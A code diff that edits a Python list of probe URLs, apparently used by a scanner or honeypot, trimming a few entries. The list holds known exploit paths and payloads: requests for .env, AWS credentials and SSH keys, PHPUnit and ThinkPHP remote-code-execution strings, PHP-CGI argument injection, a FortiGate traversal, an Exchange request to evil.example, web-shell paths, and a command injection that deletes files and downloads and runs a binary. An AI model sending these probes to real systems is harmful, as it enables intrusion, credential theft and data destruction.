@@ -54,9 +54,9 @@ TOOLS = [
 ]
 PROBES = [
     "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.aws/credentials", "/.ssh/id_rsa", "/.htpasswd", "/.htaccess", "/wp-config.php.bak", "/wp-config.php~", "/config.php.old", "/backup.sql", "/dump.sql.gz", "/db.sqlite3", "/phpinfo.php", "/server-status", "/actuator/env", "/actuator/heapdump",
-    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/boaform/admin/formLogin?username=admin&psd=admin", "/solr/admin/info/system?wt=json", "/HNAP1/", "/shell?cd+/tmp;rm+-rf+*;wget+http://10.9.8.7/x;sh+x", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=busybox&curpath=/",
-    "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1".replace("\\", "%5C"), "/_ignition/execute-solution", "/?-s", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "/_profiler/phpinfo", "/telescope/requests", "/console/", "/jmx-console/", "/manager/text/list",
-    "/web.config", "/WEB-INF/web.xml", "/docker-compose.yml", "/.dockerenv", "/.npmrc", "/composer.lock", "/storage/logs/laravel.log", "/.vscode/sftp.json", "/c99.php", "/wso.php", "/shell.php?cmd=id", "/xmlrpc.php?rsd", "/autodiscover/autodiscover.json?@evil.example/owa/&Email=x", "/owa/auth/x.js", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/solr/admin/info/system?wt=json", "/shell?cd+/tmp;rm+-rf+*;wget+http://10.9.8.7/x;sh+x", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=busybox&curpath=/",
+    "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1".replace("\\", "%5C"), "/_ignition/execute-solution", "/?-s", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "/_profiler/phpinfo", "/telescope/requests", "/jmx-console/", "/manager/text/list",
+    "/web.config", "/WEB-INF/web.xml", "/docker-compose.yml", "/.dockerenv", "/.npmrc", "/composer.lock", "/storage/logs/laravel.log", "/.vscode/sftp.json", "/c99.php", "/wso.php", "/shell.php?cmd=id", "/autodiscover/autodiscover.json?@evil.example/owa/&Email=x", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
 ]
 
 
